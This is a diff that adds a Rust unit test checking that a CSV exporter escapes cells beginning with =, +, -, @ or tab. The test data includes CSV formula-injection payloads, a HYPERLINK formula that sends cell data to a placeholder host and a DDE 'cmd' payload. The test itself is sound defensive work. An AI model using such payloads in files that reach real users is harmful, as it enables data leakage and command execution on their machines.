@@ -166,6 +166,34 @@ fn documents() {
     assert_snapshot!("csv_samples", csv::samples(&fixtures::one(), &fixtures::samples()).unwrap());
 }
 
+/// A spreadsheet would run it.
+#[test]
+fn a_text_in_csv_is_no_formula() {
+    let mut report = fixtures::three();
+    let samples = fixtures::samples();
+    for (label, cell) in [
+        (r#"=HYPERLINK("http://x/?"&A1)"#, r#"'=HYPERLINK(""http://x/?""&A1)"#),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-O2", "'-O2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("-inf", "'-inf"),
+        ("\t=1", r"\t=1"),
+        ("-1.5e3", "-1.5e3"),
+        ("a=1", "a=1"),
+    ] {
+        report.series[0].program.label = label.to_owned();
+        report.series[0].program.parameters.insert("p".to_owned(), label.to_owned());
+        let beginning = [cell, &format!("\"{cell}\"")].map(|c| format!("{c},"));
+        let rows = csv::series(&report).unwrap();
+        let row = rows.lines().nth(1).unwrap();
+        assert!(beginning.iter().any(|b| row.starts_with(b)), "{label}: {row}");
+        assert!(row.ends_with(&format!(",{cell}")) || row.ends_with(&format!(",\"{cell}\"")), "{label}: {row}");
+        let rows = csv::samples(&report, &samples).unwrap();
+        let row = rows.lines().find(|r| r.starts_with("0,")).unwrap();
+        assert!(beginning.iter().any(|b| row.starts_with(&format!("0,{b}"))), "{label}: {row}");
+    }
+}
+
 #[test]
 fn the_full_document_reads_back() {
     for (r, samples) in [(fixtures::troubled(), Vec::new()), (fixtures::hostile(), fixtures::samples())] {
